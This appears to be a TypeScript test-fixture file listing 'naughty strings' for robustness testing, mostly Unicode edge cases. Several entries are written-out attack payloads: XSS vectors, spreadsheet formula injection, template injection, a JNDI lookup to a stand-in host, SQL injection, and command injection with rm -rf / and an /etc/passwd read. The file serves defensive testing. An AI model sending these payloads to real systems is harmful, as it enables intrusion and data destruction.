/** Returns a text of `count` code points from `first` on. */
function run(first: number, count: number): string {
  return String.fromCodePoint(...Array.from({ length: count }, (_, index) => first + index));
}

/** Texts that often break software, by description. */
export const NAUGHTY: Readonly<Record<string, string>> = {
  markup:
    '<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)><iframe srcdoc="<p>">' +
    '<style>*{display:none}</style><base href="//example.com"><meta http-equiv=refresh content=0>',
  'a way out of an attribute': `" autofocus onfocus="alert(1)" x="' onmouseover='alert(2)`,
  'a way out of anything': `--></textarea></title></style></script><b>"'\`;]]>*/alert(1)//`,
  'entities, named, by number and broken': '&lt;b&gt; &amp;amp; &#x3c;i&#62; &nbsp &notit; &#0; &',
  'addresses that run': 'javascript:alert(1) JaVaScRiPt:alert(2) data:text/html,<b> vbscript:x',
  'addresses of elsewhere': 'https://example.com/?q=1#x //example.com http://[::1]/ mailto:a@b.c',
  'formulas of a sheet': `=HYPERLINK("http://example.com","x")\n+1+cmd|' /C calc'!A0\n-2+3\n@SUM(1,2)`,
  markdown: '# head\n**bold** [link](javascript:alert(1)) ![x](http://example.com/x.png)\n> `code`',
  'templates of every tongue':
    '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {%raw%} [[7*7]] ${{7*7}} {0} %s %n',
  'the keys of a prototype': '__proto__ constructor prototype toString {"__proto__":{"x":1}}',
  'a header and a log line': 'ok\r\nSet-Cookie: a=b\r\n\r\n${jndi:ldap://example.com/a}',
  'a query and a command': `'; DROP TABLE posts; -- $(rm -rf /) \`id\` | cat ../../etc/passwd`,
  'text that was encoded before': '%3Cscript%3E %00 \\u003cb\\u003e \\x3c +ADw-script+AD4- &#60;',
  'line breaks of every kind': 'a\nb\r\nc\rd\u2028e\u2029f\u0085g\vh\fi\n\n\n',
  'letters that turn the line':
    '\u202eturned \u202dback \u2066one \u2067two \u2068three, all left open',
  'marks of direction': 'a\u200eb\u200fc\u061cd',
  'characters of no width': 'a\u200bb\u200cc\u200dd\u2060e\u00adf\ufeffg\u180eh\u034fi',
  'nothing but characters of no width': '\u200b\u2060\u200d',
  'control characters, NUL among them': `a${run(0, 9)}${run(11, 2)}${run(14, 18)}${run(127, 33)}b`,
  'what is no character': '\uffff\ufffe\ufdd0\u{1fffe}\u{10ffff}\ufffc\ufff9x\ufffa\ufffb',
  'letters for private use': '\ue000\uf8ff\u{f0000}\u{10fffd}',
  'pictures made of several': '👩‍👩‍👧‍👦👍🏽🏴󠁧󠁢󠁳󠁣󠁴󠁿🇦🇶☺︎☺️ ❤️‍🔥 🇦🇦🇦 ' + '\u200d🏽\ufe0f',
  'marks without a letter': '\u0301\u0489\u20dd \u0e47\u0e47\u0e47 \u0bbe',
  'letters that look like markup': '＜script＞ ‹b› ﹤i﹥ \u02c2x\u02c3 ᐸaᐳ',
  'letters that change their number': 'ﬁ ẞ İ ı ŉ ǰ ΐ ﷽ ㍿ 𝔘𝔫𝔦 ﬃ',
  'the widest letters': '﷽'.repeat(60) + '𒐫𒈙⸻'.repeat(40) + 'Ｗ'.repeat(90),
  'one word without an end': 'W'.repeat(3000),
  'joined, so that no line may break': 'word\u00a0\u2060\u202f'.repeat(200),
  'many lines': 'x\n'.repeat(400) + 'x',
  'right to left without a space': 'ﺎﻠﻌﺮﺒﻳﺓ\u0640'.repeat(60),
  'written downwards': 'ᠮᠣᠩᠭᠣᠯ ᠪᠢᠴᠢᠭ 縦書き ꡖꡍꡂꡛ',
  'the words of the page':
    'Published Scheduled Facebook is already connected. undefined null NaN [object Object]',
};
